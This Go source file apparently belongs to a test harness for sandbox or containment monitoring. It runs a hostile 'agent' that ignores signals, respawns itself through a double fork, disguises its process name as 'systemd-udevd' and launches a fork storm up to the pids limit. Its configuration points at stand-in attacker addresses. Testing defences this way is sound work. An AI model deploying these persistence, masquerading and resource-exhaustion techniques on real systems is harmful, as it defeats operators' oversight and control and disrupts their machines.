package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"os/signal"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
)

// config is what the agent does; every part is on unless it is left out of parts.
type config struct {
	parts    string        // comma-separated: ticks, bulk, token, storm, bypass
	tag      string        // told to the sink and the API, so that an observer knows who it is
	ticks    string        // host:port
	every    time.Duration // between ticks
	bulkRate int64         // bytes a second; 0 is as fast as it goes
	api      string        // URL on which the token is used
	uses     int           // token uses a second
	procs    int           // stop forking here; 0 is the pids limit
	evil     string        // the attacker's IPv4 address
	evil6    string        // and IPv6
	dns      string        // a resolver outside, host:port
	memory   int64         // bytes that a technique may fill

	technique string // one of the registry, or empty: everything at once
	role      string // of a child process of the technique
}

func parse(args []string) (config, error) {
	var c config
	fs := flag.NewFlagSet("agent", flag.ContinueOnError)
	fs.StringVar(&c.parts, "parts", "ticks,bulk,token,storm,bypass", "what to do, comma-separated")
	fs.StringVar(&c.tag, "tag", "agent", "label told to the sink and the API")
	fs.StringVar(&c.ticks, "ticks", "ticks.vendor.test:7000", "where ticks and bulk data go")
	fs.DurationVar(&c.every, "every", 10*time.Millisecond, "time between ticks")
	fs.Int64Var(&c.bulkRate, "bulk-rate", 20<<20, "bulk bytes a second, 0: as fast as it goes")
	fs.StringVar(&c.api, "api", "https://api.vendor.test/v1/whoami", "where the token is used")
	fs.IntVar(&c.uses, "uses", 50, "token uses a second")
	fs.IntVar(&c.procs, "procs", 0, "stop forking at this many processes, 0: at the pids limit")
	fs.StringVar(&c.evil, "evil", "203.0.113.7", "the attacker's IPv4 address")
	fs.StringVar(&c.evil6, "evil6", "2001:db8::7", "the attacker's IPv6 address")
	fs.StringVar(&c.dns, "dns", "203.0.113.2:53", "a resolver outside")
	fs.Int64Var(&c.memory, "memory", 64<<20, "bytes that a technique may fill")
	fs.StringVar(&c.technique, "technique", "", "one technique of `hostile techniques` beside ticks and token; empty: everything at once")
	fs.StringVar(&c.role, "role", "", "of a child process of the technique")
	err := fs.Parse(args)
	if err == nil && (c.every <= 0 || c.uses <= 0) {
		err = fmt.Errorf("-every and -uses must be above 0")
	}
	if c.technique == "" {
		return c, err
	}
	t, ok := registry[c.technique]
	if err == nil && !ok {
		err = fmt.Errorf("no technique is called %q: `hostile techniques` lists them", c.technique)
	}
	if c.parts = t.parts; c.parts == "" {
		c.parts = "ticks,token"
	}
	if t.tune != nil {
		t.tune(&c)
	}
	return c, err
}

// args are the flags that a child process needs to be told.
func (c config) args() []string {
	return []string{
		"-technique", c.technique, "-role", c.role, "-tag", c.tag, "-ticks", c.ticks, "-api", c.api, "-evil", c.evil,
		"-evil6", c.evil6, "-dns", c.dns, "-memory", fmt.Sprint(c.memory),
	}
}

func (c config) does(part string) bool {
	for _, p := range strings.Split(c.parts, ",") {
		if p == part {
			return true
		}
	}
	return false
}

// agent starts the core behind a double fork, and again whenever it dies.
func agent(args []string) error {
	if _, err := parse(args); err != nil {
		return err
	}
	ignoreSignals()
	warmThreads(4)
	self, err := os.Executable()
	if err != nil {
		return fmt.Errorf("finding myself: %w", err)
	}
	fmt.Println("agent: up, ignoring every signal")
	for {
		alive, theirs, err := os.Pipe()
		if err != nil {
			return fmt.Errorf("making a pipe: %w", err)
		}
		cmd := exec.Command(self, append([]string{"detach"}, args...)...) // itself
		cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = os.Stdout, os.Stderr, []*os.File{theirs}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		err = cmd.Run()
		theirs.Close() // the core has its own
		if err == nil {
			io.Copy(io.Discard, alive) // ends when the core dies
		}
		alive.Close() // only read
		time.Sleep(10 * time.Millisecond)
	}
}

// detach starts the core in a session of its own and leaves it an orphan. File 3 is the core's life line.
func detach(args []string) error {
	self, err := os.Executable()
	if err != nil {
		return fmt.Errorf("finding myself: %w", err)
	}
	cmd := exec.Command(self, append([]string{"core"}, args...)...) // itself
	cmd.Stdout, cmd.Stderr, cmd.ExtraFiles = os.Stdout, os.Stderr, []*os.File{os.NewFile(3, "alive")}
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return cmd.Start()
}

// core does the work under another process name, and never returns.
func core(args []string) error {
	c, err := parse(args)
	if err != nil {
		return err
	}
	ignoreSignals()
	syscall.CloseOnExec(3)
	// A wrong name in `ps`; nothing depends on it.
	os.WriteFile("/proc/self/comm", []byte("systemd-udevd"), 0o600) // best effort
	// At the pids limit the Go runtime would die for want of a thread: have them all beforehand.
	warmThreads(12)
	seen := &counts{}
	for part, run := range map[string]func(config, *counts){
		"ticks": sendTicks, "bulk": sendBulk, "token": useToken, "bypass": hammer, "storm": startStorm,
	} {
		if c.does(part) {
			go run(c, seen)
		}
	}
	if c.technique != "" {
		go startTechnique(c, seen)
	}
	forever()
	return nil
}

// counts are what the storm or a technique has told the beacon.
type counts struct {
	work    atomic.Int64 // children of the storm, or whatever the technique counts
	refused atomic.Int64 // EAGAIN seen by the storm, or what the technique was refused
}

// follow reads "WORK REFUSED" lines until the writer ends.
func (n *counts) follow(r io.Reader) {
	for sc := bufio.NewScanner(r); sc.Scan(); {
		var work, refused int64
		if _, err := fmt.Sscan(sc.Text(), &work, &refused); err == nil {
			n.work.Store(work)
			n.refused.Store(refused)
		}
	}
}

// startStorm runs the storm in a process of its own, whose few pages make forking cheap.
func startStorm(c config, seen *counts) {
	self, err := os.Executable()
	if err != nil {
		return
	}
	for {
		cmd := exec.Command(self, "storm", fmt.Sprint(c.procs)) // itself
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		out, err := cmd.StdoutPipe()
		if err == nil {
			err = cmd.Start()
		}
		if err == nil {
			seen.follow(out)
			cmd.Wait() // it ended, start another
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// ignoreSignals ignores all that can be ignored, but for what the Go runtime sends to itself.
func ignoreSignals() {
	for s := syscall.Signal(1); s <= 64; s++ {
		switch s {
		case syscall.SIGURG, syscall.SIGSEGV, syscall.SIGBUS, syscall.SIGFPE, syscall.SIGCHLD:
		default:
			signal.Ignore(s)
		}
	}
}
